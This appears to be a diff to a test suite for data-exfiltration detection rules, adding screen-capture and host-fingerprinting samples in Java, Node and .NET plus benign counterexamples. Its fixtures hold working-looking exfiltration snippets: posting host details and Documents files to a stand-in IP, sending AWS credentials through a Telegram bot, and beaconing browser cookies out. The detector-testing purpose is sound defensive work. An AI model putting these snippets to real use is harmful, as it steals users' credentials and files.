@@ -46,6 +46,7 @@ describe("data_exfiltration: screen capture", () => {
     ["ImageMagick root window", `os.system("import -window root /tmp/.s.png")`, "data_exfiltration.capture.screen_grabber"],
     ["scrot from subprocess", `subprocess.run(["scrot", "/tmp/.s.png"])`, "data_exfiltration.capture.screen_grabber"],
     ["macOS silent capture", `os.system("screencapture -x /tmp/s.jpg")`, "data_exfiltration.capture.screen_grabber"],
+    ["Java Robot capture", `BufferedImage img = new Robot().createScreenCapture(new Rectangle(Toolkit.getDefaultToolkit().getScreenSize()));\nImageIO.write(img, "png", new File("s.png"));`, "data_exfiltration.capture.screen_grabber"],
     [".NET CopyFromScreen", `g.CopyFromScreen(0, 0, 0, 0, bmp.Size);\nbmp.Save("s.png");`, "data_exfiltration.capture.screen_grabber"],
   ])("%s", (_name, text, rule) => {
     expect(rules(text)).toContain(rule);
@@ -94,6 +95,9 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
     ["distro and architecture posted", `info = {"os": distro.name(), "arch": platform.architecture()}\nrequests.post("http://203.0.113.9/i", json=info)`, "data_exfiltration.http.send_sensitive"],
     ["home directory walked and posted", `for root, _, files in os.walk(os.path.expanduser("~/Documents")):\n    for f in files:\n        session.post("https://203.0.113.9/u", files={"f": open(os.path.join(root, f), "rb")})`, "data_exfiltration.http.send_sensitive"],
     ["Telegram bot upload", `bot.send_document(chat_id, open(os.path.expanduser("~/.aws/credentials"), "rb"))`, "data_exfiltration.http.send_sensitive"],
+    ["Node host facts", `const info = { host: os.hostname(), user: os.userInfo().username, nets: os.networkInterfaces() };`, "data_exfiltration.recon.host_fingerprint"],
+    ["Java host facts posted", `String os = System.getProperty("os.name");\nString host = InetAddress.getLocalHost().getHostName();\nHttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.9/i").openConnection();\nc.setRequestMethod("POST");\nhttpClient.post("http://203.0.113.9/i", os + host);`, "data_exfiltration.http.send_sensitive"],
+    [".NET machine facts", `var facts = new { Environment.MachineName, Environment.UserName, Environment.OSVersion };`, "data_exfiltration.recon.host_fingerprint"],
     ["image beacon with cookies", `new Image().src = "https://collect.example.net/c?d=" + encodeURIComponent(document.cookie);`, "data_exfiltration.http.send_sensitive"],
     ["window title posted", `title = win32gui.GetWindowText(win32gui.GetForegroundWindow())\nrequests.post("http://203.0.113.9/w", data={"w": title})`, "data_exfiltration.http.send_sensitive"],
     ["public IP reported", `ip = requests.get("https://api.ipify.org").text\nrequests.post("http://203.0.113.9/ip", data={"ip": ip})`, "data_exfiltration.http.send_sensitive"],
@@ -103,6 +107,8 @@ describe("data_exfiltration: fingerprinting and wider sources", () => {
   });
 
   it.each([
+    ["a Node server banner", "console.log(`listening on ${os.hostname()}:${port}`);"],
+    ["a Java OS switch", `if (System.getProperty("os.name").startsWith("Windows")) { sep = "\\\\"; }`],
     ["a user-agent check", `if (navigator.userAgent.includes("Firefox")) { useFallback(); }`],
     ["a responsive layout", `const narrow = screen.width < 600;\nlayout(narrow);`],
     ["one header read", `ua = request.headers.get("User-Agent")\nif "bot" in ua: abort(403)`],
